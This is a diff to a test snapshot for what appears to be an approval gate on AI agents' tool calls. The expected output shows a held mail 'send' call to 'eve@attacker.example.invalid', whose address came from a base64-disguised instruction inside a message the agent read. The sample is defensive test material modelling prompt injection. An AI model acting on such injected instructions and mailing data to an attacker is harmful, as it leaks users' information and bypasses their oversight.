@@ -63,7 +63,8 @@ describe('list', () => {
 d-0123abcd, 3 minutes ago
   held      a call of tool "send"
             on server "mail"
-  because   it has an effect, and where it goes was read in a message that tells the reader what to do.
+  because   it has an effect, and where it goes was read in a message that
+            tells the reader what to do.
             (rule tainted-destination, effect send)
   argument  "/to" holds
             "eve@attacker.example.invalid"
@@ -72,11 +73,12 @@ d-0123abcd, 3 minutes ago
             at "/content/0/text", disguised: base64
   the whole call:
     | {"to":"eve@attacker.example.invalid"}
-  to allow exactly this call, once:  cordon approvals allow d-0123abcd
-  to close the question:             cordon approvals deny d-0123abcd
-  to allow this from now on:         cordon approvals allow d-0123abcd --remember
-    "mail.send" "/to" <- "web"
-    one value alone (sha256:1111111111111111)
+  to answer:
+    this call, once  cordon approvals allow d-0123abcd
+    no               cordon approvals deny d-0123abcd
+    from now on      cordon approvals allow d-0123abcd --remember
+      "mail.send" "/to" <- "web"
+      one value alone (sha256:1111111111111111)
 `);
   });
 
